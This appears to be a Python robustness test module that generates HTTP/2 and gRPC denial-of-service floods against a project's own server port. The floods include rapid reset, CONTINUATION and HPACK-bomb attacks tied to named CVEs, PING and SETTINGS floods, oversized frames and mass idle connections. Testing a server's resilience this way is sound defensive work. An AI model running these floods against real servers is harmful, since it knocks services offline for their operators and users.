"""What is sent to the gRPC port: each flood yields the bytes of one connection, in pieces, perhaps for ever.

The first group is what took servers down before: CVE-2023-44487 (rapid reset), CVE-2024-27316 and its relatives
(CONTINUATION), CVE-2019-9511 to 9518 (PING, SETTINGS, PRIORITY, empty frames, small windows), CVE-2016-6581 (HPACK
bomb).
"""

from __future__ import annotations

import itertools
import random
import struct

from tests.attack.pouring import Registry
from tests.attack.wire import (
    CONTINUATION,
    END_HEADERS,
    GREETING,
    HEADER_TABLE_SIZE,
    HEADERS,
    INDEXED,
    LITERAL_KEPT,
    PADDED,
    PREFACE,
    PRIORITY,
    PUSH_PROMISE,
    SETTINGS,
    call_headers,
    data,
    frame,
    header,
    integer,
    message,
    open_call,
    reset,
    string,
)
from tests.conformance.raw_http2 import GOAWAY, INITIAL_WINDOW_SIZE, PING, WINDOW_UPDATE

FLOODS = Registry()
STREAMS = range(1, 2**31, 2)
WATCH = "/grpc.health.v1.Health/Watch"
REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"


def pieces(parts, count=200):
    """The greeting, then ``parts`` joined by ``count`` at a time: few calls of send for many frames."""
    yield GREETING
    parts = iter(parts)
    while piece := b"".join(itertools.islice(parts, count)):
        yield piece


def kept_call(path="/predictor.Predictor/Predict"):
    """A call's block whose headers stay in the table, and the block of each later one: six bytes."""
    block = call_headers(path, kind=LITERAL_KEPT)
    return block, b"".join(integer(62 + at, INDEXED) for at in reversed(range(6)))


def calls(path="/predictor.Predictor/Predict", *, ends=False):
    first, later = kept_call(path)
    for stream in STREAMS:
        yield stream, open_call(stream, first if stream == 1 else later, ends=ends)


@FLOODS.add(reads=False)
def headers_without_end(_):
    """Calls that are opened and never get a message."""
    yield from pieces(call for _, call in calls())


@FLOODS.add(reads=False)
def unknown_method(_):
    """Complete calls of a method that does not exist, whose answers nobody reads."""
    yield from pieces(call for _, call in calls("/attack.Nobody/Home", ends=True))


@FLOODS.add()
def unknown_method_read(_):
    """The same with a client that reads."""
    yield from pieces(call for _, call in calls("/attack.Nobody/Home", ends=True))


@FLOODS.add()
def empty_calls(_):
    """Predict without a message."""
    yield from pieces(call for _, call in calls(ends=True))


@FLOODS.add()
def rapid_reset(_):
    """Calls reset at once (CVE-2023-44487)."""
    yield from pieces(call + reset(stream) for stream, call in calls())


@FLOODS.add()
def whole_calls_reset(target):
    """Valid requests reset behind their last byte."""
    body = message(target.request)
    yield from pieces(
        (call + data(stream, body, ends=True) + reset(stream) for stream, call in calls()), 20
    )


@FLOODS.add(reads=False)
def valid_calls_unread(target):
    """Valid requests whose answers nobody reads."""
    body = message(target.request)
    yield from pieces((call + data(stream, body, ends=True) for stream, call in calls()), 20)


def endless_header(opening):
    yield GREETING + frame(HEADERS, 0, 1, call_headers() + opening)
    while True:
        yield frame(CONTINUATION, 0, 1, b"\x00" * 16_384) * 4


@FLOODS.add()
def huffman_without_end(_):
    """A Huffman-coded value of 2 GiB in CONTINUATION frames."""
    yield from endless_header(integer(0, (4, 0)) + string(b"long") + integer(2**31 - 1, (7, 0x80)))


@FLOODS.add(connections=120)
def huffman_on_many_connections(_):
    """The same on 120 connections."""
    yield from huffman_without_end(_)


@FLOODS.add()
def plain_without_end(_):
    """A plain value of 2 GiB."""
    yield from endless_header(integer(0, (4, 0)) + string(b"long") + integer(2**31 - 1, (7, 0)))


@FLOODS.add()
def many_headers(_):
    """One block of small headers that does not end."""
    yield GREETING + frame(HEADERS, 0, 1, call_headers())
    small = header("a", "b") * 3_000
    while True:
        yield frame(CONTINUATION, 0, 1, small[:16_380])


@FLOODS.add()
def empty_continuations(_):
    """A block of CONTINUATION frames without content (CVE-2024-27316)."""
    yield GREETING + frame(HEADERS, 0, 1, call_headers())
    while True:
        yield frame(CONTINUATION, 0, 1) * 5_000


@FLOODS.add(reads=False)
def large_metadata(_):
    """Calls with 8 KiB of metadata each."""
    extra = header("attack", "x" * 7_800)
    yield from pieces((open_call(stream, call_headers() + extra) for stream in STREAMS), 20)


@FLOODS.add(reads=False)
def header_bomb(_):
    """A header of 4,000 bytes that is kept once and then named 1,000 times in each call (CVE-2016-6581)."""
    kept = header("bomb", "x" * 3_900, LITERAL_KEPT)
    first = call_headers() + kept

    def parts():
        for stream in STREAMS:
            block = first if stream == 1 else call_headers() + integer(62, INDEXED) * 1_000
            yield open_call(stream, block)

    yield from pieces(parts(), 50)


@FLOODS.add()
def table_sizes(_):
    """SETTINGS that change the size of the header table back and forth, each to be acknowledged."""
    both = b"".join(
        frame(SETTINGS, 0, 0, struct.pack(">HI", HEADER_TABLE_SIZE, size)) for size in (0, 2**30)
    )
    yield from pieces(itertools.repeat(both), 1_000)


@FLOODS.add(reads=False)
def pings_unread(_):
    """PINGs whose answers nobody reads (CVE-2019-9512)."""
    yield from pieces(itertools.repeat(frame(PING, 0, 0, b"12345678")), 2_000)


@FLOODS.add()
def pings(_):
    """PINGs whose answers are read."""
    yield from pieces(itertools.repeat(frame(PING, 0, 0, b"12345678")), 2_000)


@FLOODS.add(reads=False)
def settings_unread(_):
    """SETTINGS whose acknowledgements nobody reads (CVE-2019-9515)."""
    yield from pieces(itertools.repeat(frame(SETTINGS, 0, 0)), 2_000)


@FLOODS.add()
def acknowledgements(_):
    """Acknowledgements of SETTINGS that were never sent."""
    yield from pieces(itertools.repeat(frame(SETTINGS, 1, 0)), 2_000)


@FLOODS.add()
def priorities(_):
    """PRIORITY frames of streams that are not there (CVE-2019-9513)."""
    yield from pieces(
        frame(PRIORITY, 0, stream, struct.pack(">IB", (stream + 2) % 2**31, 7))
        for stream in STREAMS
    )


@FLOODS.add()
def window_updates(_):
    """Windows that grow by one byte."""
    yield from pieces(itertools.repeat(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))), 2_000)


@FLOODS.add()
def window_overflow(_):
    """A window that grows past 2^31 - 1."""
    yield GREETING + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 1)) * 2


@FLOODS.add()
def window_sizes(target):
    """Calls beside SETTINGS that change every stream's window."""
    flip = [
        frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, size))
        for size in (0, 2**31 - 1)
    ]
    body = message(target.request)
    yield from pieces(
        (call + data(stream, body, ends=True) + flip[stream // 2 % 2] for stream, call in calls()),
        20,
    )


@FLOODS.add()
def empty_data(_):
    """DATA frames without content on one call (CVE-2019-9518)."""
    yield from pieces(itertools.chain([open_call(1)], itertools.repeat(data(1, b""))), 2_000)


@FLOODS.add()
def padding(_):
    """DATA frames that are nothing but padding."""
    padded = frame(0, PADDED, 1, bytes([255]) + bytes(255))
    yield from pieces(itertools.chain([open_call(1)], itertools.repeat(padded)), 50)


@FLOODS.add()
def past_the_window(_):
    """A message that goes on past the window that the server gave."""
    body = message(b"", announced=2**31)
    yield from pieces(
        itertools.chain([open_call(1), data(1, body)], itertools.repeat(data(1, bytes(16_384)))), 8
    )


@FLOODS.add(connections=20, holds=True)
def half_messages(target):
    """On 20 connections 100 calls each that announce 4 MiB and send one byte less than they announce
    of the first window."""
    body = message(b"\x00" * 30, announced=1 << 22)
    yield GREETING + b"".join(open_call(stream) + data(stream, body) for stream in STREAMS[:100])


@FLOODS.add()
def length_of_4_gib(_):
    """Messages that announce 2^32 - 1 bytes."""
    body = message(b"\x00" * 100, announced=2**32 - 1)
    yield from pieces((call + data(stream, body) for stream, call in calls()), 50)


@FLOODS.add()
def two_messages(target):
    """Unary calls with two messages."""
    body = message(target.request) * 2
    yield from pieces((call + data(stream, body, ends=True) for stream, call in calls()), 20)


@FLOODS.add()
def trailing_headers(target):
    """Trailers of the client behind its message, again and again."""
    trailer = header("x", "y" * 100)
    body = message(target.request)
    yield from pieces(
        (
            call + data(stream, body) + frame(HEADERS, END_HEADERS, stream, trailer) * 10
            for stream, call in calls()
        ),
        20,
    )


@FLOODS.add(connections=600, holds=True)
def idle_connections(_):
    """600 connections without a byte."""
    yield b""


@FLOODS.add(connections=300, holds=True)
def half_prefaces(_):
    """300 connections with half a preface."""
    yield PREFACE[:10]


@FLOODS.add(connections=300, holds=True)
def greeted_connections(_):
    """300 connections that greet and say nothing more."""
    yield GREETING


@FLOODS.add(connections=300, holds=True)
def half_header_blocks(_):
    """300 connections within a header block."""
    yield GREETING + frame(HEADERS, 0, 1, call_headers())


@FLOODS.add(connections=50)
def opened_and_closed(_):
    """Connections that end behind their greeting."""
    yield GREETING


@FLOODS.add(connections=8)
def garbage(_):
    """Random bytes."""
    yield random.Random(0).randbytes(1 << 16)


@FLOODS.add(connections=8)
def garbage_behind_the_greeting(_):
    """Random bytes behind a right greeting, another each time."""
    yield GREETING + random.randbytes(1 << 14)


@FLOODS.add(connections=8)
def random_frames(_):
    """Frames of random kind, flags, stream and content."""
    draw = random.Random()
    yield GREETING + b"".join(
        frame(
            draw.randrange(12),
            draw.randrange(256),
            draw.choice([0, 1, 3, 2, 2**31 - 1]),
            draw.randbytes(draw.choice([0, 1, 4, 8, 100])),
        )
        for _ in range(200)
    )


@FLOODS.add(connections=4)
def http_1(_):
    """HTTP/1.1 on the gRPC port."""
    yield b"GET / HTTP/1.1\r\nHost: attack\r\n\r\n" * 100


@FLOODS.add(connections=4)
def tls(_):
    """The beginning of a TLS handshake on the port without TLS."""
    yield b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(507)


@FLOODS.add()
def goaways(_):
    """GOAWAY again and again."""
    yield from pieces(itertools.repeat(frame(GOAWAY, 0, 0, struct.pack(">II", 0, 0))), 1_000)


@FLOODS.add(connections=4)
def frame_of_16_mib(_):
    """A frame of 2^24 - 1 bytes."""
    yield GREETING + b"\xff\xff\xff" + struct.pack(">BBI", 0, 0, 1)
    for _ in range(1_024):
        yield bytes(16_384)


@FLOODS.add(connections=4)
def push_promise(_):
    """PUSH_PROMISE of a client."""
    yield GREETING + frame(PUSH_PROMISE, END_HEADERS, 1, struct.pack(">I", 2) + call_headers())


@FLOODS.add(connections=4)
def wrong_streams(_):
    """HEADERS on stream 0, on an even one, and on one that is older than the last."""
    for streams in ([0], [2], [5, 3], [1, 1]):
        yield GREETING + b"".join(map(open_call, streams))


@FLOODS.add()
def wrong_headers(_):
    """Calls with missing, doubled, empty and forbidden headers."""
    blocks = [
        call_headers(**{":path": None}),
        call_headers(**{":method": None}),
        call_headers(**{":method": "GET"}),
        call_headers(**{":path": ""}),
        call_headers() + header(":path", "/again"),
        call_headers() + header("connection", "close"),
        call_headers() + header("Upper", "case"),
        call_headers() + header("", "nameless"),
        call_headers(content_type=None),
        call_headers(te=None),
    ]
    yield from pieces(
        (open_call(stream, blocks[stream // 2 % len(blocks)], ends=True) for stream in STREAMS),
        50,
    )


@FLOODS.add()
def wrong_content_types(_):
    """Calls whose content type is another each time, which a server may want to log."""
    yield from pieces(
        open_call(stream, call_headers(content_type=f"text/{stream}"), ends=True)
        for stream in STREAMS
    )


@FLOODS.add()
def wrong_timeouts(target):
    """Deadlines that are none, negative, long and in no unit."""
    values = ["", "1", "S", "-1S", "99999999999999999H", "1x", "0n", "1n", "99999999H"]
    body = message(target.request)
    yield from pieces(
        (
            open_call(stream, call_headers(grpc_timeout=values[stream // 2 % len(values)]))
            + data(stream, body, ends=True)
            for stream in STREAMS
        ),
        20,
    )


@FLOODS.add()
def compressed_rubbish(_):
    """Messages that say that they are compressed and are not."""
    body = message(bytes(500), compressed=True)
    block = call_headers(grpc_encoding="gzip")
    yield from pieces(
        (open_call(stream, block) + data(stream, body, ends=True) for stream in STREAMS), 50
    )


@FLOODS.add()
def long_paths(_):
    """Paths of 8,000 characters, another each time."""
    yield from pieces(
        (
            open_call(stream, call_headers(f"/{stream}/" + "x" * 8_000), ends=True)
            for stream in STREAMS
        ),
        20,
    )


@FLOODS.add(connections=10, holds=True)
def watches(_):
    """On ten connections 500 health watches each."""
    block = call_headers(WATCH)
    yield GREETING + b"".join(
        open_call(stream, block) + data(stream, message(b""), ends=True) for stream in STREAMS[:500]
    )


@FLOODS.add(connections=10, holds=True)
def reflections(_):
    """On ten connections 500 reflection streams each that ask once and stay."""
    block = call_headers(REFLECTION)
    question = message(b"\x3a\x00")  # list_services
    yield GREETING + b"".join(
        open_call(stream, block) + data(stream, question) for stream in STREAMS[:500]
    )


@FLOODS.add()
def reflection_questions(_):
    """One reflection stream that asks without end."""
    question = message(b"\x3a\x00")
    yield GREETING + open_call(1, call_headers(REFLECTION))
    while True:
        yield data(1, question * 100)


@FLOODS.add()
def undecodable(target):
    """Requests of a fixed length whose bytes are random."""
    draw = random.Random(0)
    bodies = [message(draw.randbytes(200)) for _ in range(50)]
    yield from pieces(
        (call + data(stream, bodies[stream // 2 % 50], ends=True) for stream, call in calls()), 50
    )


@FLOODS.add(connections=8)
def mid_message_aborts(target):
    """Connections that are aborted within a message."""
    body = message(target.request)
    yield GREETING + open_call(1) + data(1, body[: len(body) // 2])
